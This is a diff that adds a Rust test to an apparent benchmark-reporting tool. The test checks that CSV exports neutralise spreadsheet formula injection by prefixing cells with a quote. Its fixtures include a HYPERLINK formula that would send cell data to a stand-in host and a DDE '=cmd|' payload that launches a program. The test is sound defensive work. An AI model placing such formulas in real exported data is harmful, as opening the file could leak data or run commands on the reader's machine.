@@ -573,3 +573,62 @@ fn the_index_says_when_a_best_cell_had_failed_turns() {
         "the fixture has failures"
     );
 }
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
+    let tmp = tempfile::tempdir().unwrap();
+    let run = write_run(tmp.path(), "f", &tiny_spec("=1+1"));
+    // A dataset's trajectory ids and a server's error as a hostile source would write them.
+    let turns_path = run.join("turns.jsonl");
+    let ids = [
+        "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
+        "@SUM(1+1)",
+        "-2+3",
+        "plain-id",
+    ];
+    let lines: Vec<String> = std::fs::read_to_string(&turns_path)
+        .unwrap()
+        .lines()
+        .map(|l| {
+            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
+            r.traj_id = ids[r.traj as usize].to_string();
+            if r.traj == 1 {
+                r.error = Some("=cmd|' /C calc'!A0".into());
+            }
+            serde_json::to_string(&r).unwrap()
+        })
+        .collect();
+    std::fs::write(&turns_path, lines.join("\n") + "\n").unwrap();
+    let site = tmp.path().join("site");
+    build(std::slice::from_ref(&run), &site, None);
+    for file in ["data/turns.csv", "data/summary.csv"] {
+        let mut csv = csv::Reader::from_path(site.join(file)).unwrap();
+        let mut rows = 0;
+        for row in csv.records() {
+            let row = row.unwrap();
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                        && !(cell.starts_with('-') && cell.parse::<f64>().is_err()),
+                    "{file}: {cell:?} in {row:?}"
+                );
+            }
+            assert_eq!(&row[0], "'=1+1", "{file}: the run id, as text");
+            rows += 1;
+        }
+        assert!(rows > 0);
+    }
+    let turns = read(&site.join("data/turns.csv"));
+    // (The fixture has three trajectories.)
+    for id in &ids[..3] {
+        assert!(
+            turns.contains(&format!("'{}", id.replace('"', "\"\""))),
+            "{id:?}"
+        );
+    }
+    assert!(turns.contains("'=cmd|"));
+    assert!(
+        turns.contains(",h100,prefix,"),
+        "other text is left as it is"
+    );
+}
